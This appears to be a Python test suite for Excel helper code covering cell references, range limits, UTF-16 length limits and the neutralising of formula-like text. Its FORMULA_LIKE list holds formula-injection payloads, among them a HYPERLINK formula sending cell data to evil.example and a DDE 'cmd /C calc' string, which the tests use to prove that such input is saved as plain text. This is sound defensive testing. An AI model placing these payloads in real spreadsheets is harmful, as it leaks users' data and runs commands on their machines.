"""Excel rules: cell references exactly as Excel's grid, text that stays text,
and the cell limit counted as Excel counts it."""

from __future__ import annotations

import io
import zipfile

from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import Workbook, load_workbook

from selfassess.office.excel import (
    MAX_CELL_CHARS,
    MAX_COLUMN,
    MAX_ROW,
    cell_ref,
    column_letters,
    column_number,
    coordinate,
    excel_text,
    fits_in_cell,
    name_target,
    range_area,
    set_text,
    utf16_len,
)

rows = st.integers(1, MAX_ROW)
cols = st.integers(1, MAX_COLUMN)


@given(rows, cols, st.integers(0, 12), st.booleans(), st.booleans())
def test_every_cell_of_the_grid_reads_back_however_written(
    row: int, col: int, zeros: int, dollar: bool, lower: bool
) -> None:
    letters = column_letters(col)
    text = f"{'$' if dollar else ''}{letters.lower() if lower else letters}{'0' * zeros}{row}"
    assert cell_ref(text) == (row, col)
    assert cell_ref(coordinate((row, col))) == (row, col)


@given(st.integers(MAX_ROW + 1, 10**12), cols, st.integers(0, 3))
def test_rows_past_the_grid_are_no_cell(row: int, col: int, zeros: int) -> None:
    assert cell_ref(f"{column_letters(col)}{'0' * zeros}{row}") is None


@given(st.integers(MAX_COLUMN + 1, 26**3 + 26**2 + 26), rows)
def test_columns_past_xfd_are_no_cell(col: int, row: int) -> None:
    assert cell_ref(f"{column_letters(col)}{row}") is None


@given(st.text(max_size=12))
def test_any_text_is_a_cell_of_the_grid_or_none(text: str) -> None:
    found = cell_ref(text)
    if found is not None:
        row, col = found
        assert 1 <= row <= MAX_ROW
        assert 1 <= col <= MAX_COLUMN
        assert text.replace("$", "").isascii()


def test_column_letters_and_numbers_agree_over_the_whole_grid() -> None:
    assert all(column_number(column_letters(c)) == c for c in range(1, MAX_COLUMN + 1))


def test_a_huge_row_number_is_refused_without_converting_it() -> None:
    # Python refuses int() of over 4,300 digits; the rule must not get there.
    assert cell_ref("A" + "9" * 100_000) is None
    assert cell_ref("A" + "0" * 100_000 + "1") == (1, 1)


def test_name_targets() -> None:
    assert name_target("'O''Brien sheet'!$B$0002") == ("O'Brien sheet", (2, 2))
    assert name_target("Cover!A1:B3") == ("Cover", (1, 1))
    assert name_target("Cover!A1:XFE3") is None
    assert name_target("SUM(Cover!A1)") is None
    assert name_target("Sheet1:Sheet3!A1") is None


def test_range_area_counts_the_whole_grid_once_per_range() -> None:
    assert range_area("A1:XFD1048576 A1:XFD1048576") == 2 * MAX_ROW * MAX_COLUMN
    assert range_area("A00001:A00010") == 10


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "=1+1",
    "  =cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "=",
]

S_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def formulas_in(data: bytes) -> list[str]:
    """Every ``<f>`` element of every worksheet of a saved workbook."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(zf.read(name))
                found += [el.text or "" for el in root.iter(S_NS + "f")]
    return found


def saved(values: list[str]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row, value in enumerate(values, 1):
        set_text(ws.cell(row=row, column=1), value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_formula_like_text_stays_text_in_a_saved_workbook() -> None:
    data = saved(FORMULA_LIKE)
    assert formulas_in(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    for row, value in enumerate(FORMULA_LIKE, 1):
        cell = ws.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (value, "s")
        if value.lstrip(" ").startswith(("=", "+", "-", "@", "＝")):
            assert cell.quotePrefix


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=200), min_size=1, max_size=5))
def test_any_text_survives_a_workbook_as_text(values: list[str]) -> None:
    data = saved(values)
    assert formulas_in(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    for row, value in enumerate(values, 1):
        read = ws.cell(row=row, column=1).value
        assert (read or "") == excel_text(value)


def test_control_characters_and_long_text() -> None:
    assert excel_text("a\x00b\x1fc\td") == "a\ufffdb\ufffdc\td"
    long = "ع" * (MAX_CELL_CHARS + 10)
    cut = excel_text(long)
    assert len(cut) == MAX_CELL_CHARS
    assert cut.endswith("…")
    astral = "😀" * MAX_CELL_CHARS  # two UTF-16 units each
    assert len(excel_text(astral).encode("utf-16-le")) // 2 <= MAX_CELL_CHARS
    assert excel_text("x" * MAX_CELL_CHARS) == "x" * MAX_CELL_CHARS
    ws = load_workbook(io.BytesIO(saved(["a\x01b", long]))).active
    assert ws["A1"].value == "a\ufffdb"
    assert len(ws["A2"].value) == MAX_CELL_CHARS


def test_the_limit_is_in_utf16_units() -> None:
    assert fits_in_cell("😀" * (MAX_CELL_CHARS // 2))
    assert not fits_in_cell("😀" * (MAX_CELL_CHARS // 2 + 1))
    assert utf16_len(excel_text("😀" * 20_000)) == MAX_CELL_CHARS
